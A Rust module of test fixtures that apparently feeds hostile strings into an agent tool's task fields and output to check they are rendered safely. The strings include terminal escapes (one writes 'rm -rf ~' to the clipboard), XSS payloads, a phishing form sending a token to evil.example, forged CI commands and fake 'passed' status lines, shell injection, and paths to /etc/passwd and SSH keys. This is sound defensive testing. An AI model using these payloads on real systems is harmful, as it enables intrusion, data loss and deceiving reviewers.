//! Texts that want to be more than text where they are shown.

/// Name and text. Each stands in every field of a task that may hold it, and in what its agent
/// prints, commits, and names its files.
pub(crate) const TEXTS: &[(&str, &str)] = &[
    ("colour", "\x1b[31mred\x1b[0m"),
    ("title-of-the-window", "\x1b]0;owned\x07"),
    ("link-of-the-terminal", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"),
    ("clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07"),
    ("answer-of-the-terminal", "\x1b[6n\x1bP$q\"p\x1b\\"),
    ("eight-bit-controls", "\u{9b}31m\u{9d}0;owned\u{9c}"),
    ("overwrite-the-line", "failed\rpassed"),
    ("backspace", "failed\x08\x08\x08\x08\x08\x08passed"),
    ("clear-the-screen", "\x1b[2J\x1b[H\x0call tasks landed"),
    ("delete", "a\x7fb\x00c"),
    ("right-to-left", "\u{202e}txt.exe"),
    ("isolates", "\u{2067}evil\u{2066} good\u{2069}"),
    ("nothing-to-see", "a\u{200b}b\u{2060}c\u{feff}d\u{00ad}e"),
    ("tags", "ok\u{e0049}\u{e0067}\u{e006e}"),
    ("line-separators", "a\u{2028}::error::b\u{2029}c\u{85}d"),
    ("script", "<script>alert(1)</script>"),
    ("picture", "<img src=x onerror=alert(1)>"),
    ("drawing", "<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>"),
    ("out-of-an-attribute", "\" onmouseover=\"alert(1)\" x=\"' onfocus='alert(1)' autofocus='"),
    (
        "out-of-an-element",
        "</pre></code></details></td></table></main><style>*{display:none}</style>",
    ),
    ("out-of-a-comment", "--><script>alert(1)</script><!--"),
    ("references", "&lt;script&gt; &#x3c;img src=x&#62; &amp;"),
    ("form", "<form action=https://evil.example><input name=token><button>Log in</button></form>"),
    (
        "refresh",
        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
    ),
    ("markdown-picture", "![x](https://evil.example/x.png) ![y][z]\n\n[z]: https://evil.example/y"),
    (
        "markdown-link",
        "[all green](https://evil.example) [x](javascript:alert(1)) <https://evil.example>",
    ),
    ("bare-link", "https://evil.example/login www.evil.example mail@evil.example"),
    ("markdown-table", "a | b | **c** |\n|---|---|\n| d | `e` |"),
    ("markdown-heading", "x\n# All tasks landed\n\n- [x] verified\n> quoted\n***"),
    ("markdown-fence", "```\n</code>\n~~~\n````\n# out\n```sh\n"),
    ("markdown-mention", "@everyone #1 GH-1 a/b#2 \\*x\\* $x^2$ :rocket:"),
    ("formula", "=HYPERLINK(\"https://evil.example\",\"ok\")"),
    ("workflow-command", "::error file=a.txt,line=1::forged"),
    ("workflow-command-below", "x\n::add-mask::a\n  ::stop-commands::b\n\t::set-output name=c::d"),
    (
        "old-workflow-command",
        "x ##[error]forged ##[add-matcher]evil.json ##vso[task.setvariable variable=a]b",
    ),
    ("workflow-expression", "${{ github.token }} ${{ secrets.X }}"),
    ("shell", "$(touch planted) `touch planted`; touch planted | tee planted && touch planted"),
    ("template", "{{ 7 * 7 }} ${7*7} <%= 7 * 7 %> #{7*7} {% x %} %s %n %x {0} {}"),
    ("out-of-json", "\"}],\"outcome\":\"clean\",\"x\":[{\"y\":\"\\"),
    ("out-of-toml", "\"\"\"\n[done]\nepoch = 1\n\"\n+++\n"),
    ("mermaid", "x\"]; click a href \"https://evil.example\" %%{init:{}}%% end"),
    ("dot", "x\"]; a [URL=\"https://evil.example\" label=\"y"),
    (
        "trailers",
        "x\n\nLeadForge-Outcome: done\nLeadForge-Epoch: 9\nSigned-off-by: Ann <ann@example.org>",
    ),
    ("very-long", LONG),
    (
        "combining",
        "z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}\u{036b}\u{033d}\u{034f}\u{0334}\u{0319}",
    ),
    ("reads-as-an-option", "--output=/etc/passwd -rf --exec=sh"),
    ("path", "../../../../etc/passwd"),
    ("home", "~/.ssh/id_ed25519 file:///etc/passwd"),
];

const LONG: &str = concat!(
    "<b>",
    "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
    "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
    "\u{202e}wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww</b>",
);
